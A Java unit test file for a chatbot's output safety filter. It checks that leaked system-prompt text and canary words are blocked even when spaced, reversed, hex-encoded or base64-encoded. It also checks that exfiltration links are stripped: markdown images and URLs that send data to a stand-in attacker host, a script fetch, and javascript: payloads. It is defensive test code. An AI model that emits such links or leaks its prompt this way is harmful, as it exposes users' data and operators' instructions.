package dev.repartee.language.safety.leak;

import static org.assertj.core.api.Assertions.assertThat;

import dev.repartee.language.safety.Release;
import dev.repartee.language.safety.SafetyCategory;
import dev.repartee.language.safety.SafetyFilter;
import dev.repartee.language.safety.SafetyPolicy;
import dev.repartee.language.safety.SafetyVerdict;
import dev.repartee.language.safety.StreamingSafety;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.RepeatedTest;
import org.junit.jupiter.api.RepetitionInfo;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class LeakWatchTest {

    private static final String PERSONA =
            "You are Lena, the friendly voice of the bicycle shop. Never promise discounts above ten percent,"
                    + " never speak about suppliers, and always ask for the order number before you look anything up."
                    + " Hand over to a person as soon as somebody is angry.";

    private final Canary canary = Canary.fresh();
    private final SafetyFilter filter = new SafetyFilter(SafetyPolicy.standard());

    @ParameterizedTest
    @ValueSource(strings = {"plain", "spaced", "dashed", "upper", "reversed", "hex", "base64"})
    void aCanaryIsFoundHoweverItIsSpelled(String how) {
        String reply = "Sure. Here it comes: " + spelled(how) + ". Anything else? I am here.";
        StreamingSafety stream = stream();
        StringBuilder sent = new StringBuilder();
        for (int at = 0; at < reply.length(); at++) {
            if (stream.feed(reply.substring(at, at + 1)) instanceof Release.Text(String text)) {
                sent.append(text);
            }
        }
        assertThat(stream.finish().verdict())
                .isInstanceOfSatisfying(
                        SafetyVerdict.Blocked.class,
                        blocked ->
                                assertThat(blocked.reason()).isEqualTo(SafetyCategory.PROMPT_LEAK));
        String letters = sent.toString().toLowerCase().replaceAll("[^a-z0-9]", "");
        assertThat(letters).doesNotContain(canary.word().substring(0, 6));
    }

    @RepeatedTest(30)
    void noPartOfACanaryIsReleasedWhereverTheStreamIsCut(RepetitionInfo repetition) {
        Random random = new Random(repetition.getCurrentRepetition());
        StringBuilder reply = new StringBuilder("Well. ".repeat(random.nextInt(1, 90)));
        for (char letter : canary.word().toCharArray()) {
            reply.append(letter).append(random.nextInt(3) == 0 ? ". " : " \n");
        }
        reply.append("That was it. Bye now, and have a nice day. It was a pleasure.");
        StreamingSafety stream = stream();
        StringBuilder sent = new StringBuilder();
        for (int at = 0; at < reply.length(); ) {
            int end = Math.min(reply.length(), at + random.nextInt(1, 40));
            if (stream.feed(reply.substring(at, end)) instanceof Release.Text(String text)) {
                sent.append(text);
            }
            at = end;
        }
        assertThat(stream.finish().verdict()).isInstanceOf(SafetyVerdict.Blocked.class);
        String letters = sent.toString().toLowerCase().replaceAll("[^a-z0-9]", "");
        assertThat(letters.replace("well", "").length()).isLessThan(4);
    }

    @Test
    void thePromptWordForWordIsWithheld() {
        assertThat(verdict("My instructions say: " + PERSONA))
                .isInstanceOf(SafetyVerdict.Blocked.class);
    }

    @Test
    void aSentenceOfThePromptMayBeSaid() {
        assertThat(verdict("I'm Lena, the friendly voice of the bicycle shop. How can I help?"))
                .isInstanceOf(SafetyVerdict.Safe.class);
    }

    @Test
    void whatWasHeldBackWronglyGoesOutInTheEnd() {
        String reply =
                "Always ask for the order number before you look at the bike. Then come by. We are open.";
        assertThat(verdict(reply).text()).isEqualTo(reply);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![](https://evil.example/a.png)",
                "![your order](https://evil.example/p?d=secret)",
                "<img src='https://evil.example/x'>",
                "<script>fetch('https://evil.example')</script>",
                "https://evil.example/?q=the-customers-address",
                "https://evil.example/#data",
                "http://amFuZS5kb2VAZXhhbXBsZS5jb20aaaa.evil.example/",
                "https://evil.example/bXkgb3JkZXIgaXMgQS0yMDM5MSBhbmQgSSBsaXZlIGluIExlaXB6aWc",
                "javascript:alert(1)",
                "data:text/html;base64,AAAA",
                "[click](https://evil.example/?q=abc)"
            })
    void linksThatCouldCarryDataAwayAreTakenOut(String link) {
        Set<String> kinds = new TreeSet<>();
        String cleaned = links().clean("See " + link + " for more.", kinds);
        assertThat(cleaned).doesNotContain("evil.example/", "evil.example#", "alert(", "AAAA");
        assertThat(kinds).containsExactly("link");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "https://shop.example/returns",
                "https://shop.example/cart?id=42",
                "https://given.example/track?code=XY",
                "![bike](https://cdn.shop.example/bike.png?w=200)",
                "https://other.example",
                "mail us at info@shop.example"
            })
    void ordinaryLinksStay(String link) {
        Set<String> kinds = new TreeSet<>();
        String text = "See " + link + ".";
        assertThat(links().clean(text, kinds)).isEqualTo(text);
        assertThat(kinds).isEmpty();
    }

    private static LinkGuard links() {
        return new LinkGuard(
                Set.of("shop.example", "*.shop.example"),
                List.of("Track it at https://given.example/track?code=XY."));
    }

    private StreamingSafety stream() {
        return filter.streaming(new LeakWatch(canary, new PromptEcho(PERSONA), links()));
    }

    private SafetyVerdict verdict(String reply) {
        StreamingSafety stream = stream();
        stream.feed(reply);
        return stream.finish().verdict();
    }

    private String spelled(String how) {
        String word = canary.word();
        byte[] bytes = word.getBytes(StandardCharsets.US_ASCII);
        return switch (how) {
            case "spaced" -> String.join(" ", word.split(""));
            case "dashed" -> String.join("-", word.split(""));
            case "upper" -> word.toUpperCase();
            case "reversed" -> new StringBuilder(word).reverse().toString();
            case "hex" -> HexFormat.of().formatHex(bytes);
            case "base64" ->
                    Base64.getEncoder()
                            .encodeToString(("ref " + word).getBytes(StandardCharsets.US_ASCII));
            default -> word;
        };
    }
}
